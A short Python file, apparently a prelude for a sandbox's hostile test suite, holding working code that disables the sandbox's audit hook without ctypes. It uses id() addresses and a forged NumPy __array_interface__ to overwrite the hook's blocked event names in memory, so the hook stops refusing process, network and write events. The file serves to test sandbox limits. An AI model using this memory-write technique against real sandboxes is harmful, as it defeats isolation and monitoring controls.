# A hostile prelude: disarm the sandbox's audit hook from learner code, with no ctypes. id() gives
# addresses and NumPy's __array_interface__ writes memory, so the event names in the hook's sets are
# overwritten and it refuses nothing any more. The hook is a teacher, not a guard: every attack
# in test_hostile.py runs after this.
import sys, numpy as np
class _Raw:
    pass
def _poke(s):
    r = _Raw(); r.__array_interface__ = {"data": (id(s) + sys.getsizeof("") - 1, False), "shape": (len(s),), "typestr": "|u1", "version": 3}
    np.asarray(r)[0] = ord("#")
_f = sys._getframe()
while _f is not None and "PROCESS_EVENTS" not in _f.f_globals:
    _f = _f.f_back
_w = _f.f_globals
for _s in [*_w["PROCESS_EVENTS"], *_w["NETWORK_EVENTS"], *_w["AFTER_SETUP_EVENTS"], *_w["ALWAYS_REFUSED"], *_w["WRITE_EVENTS"]]:
    _poke(_s)
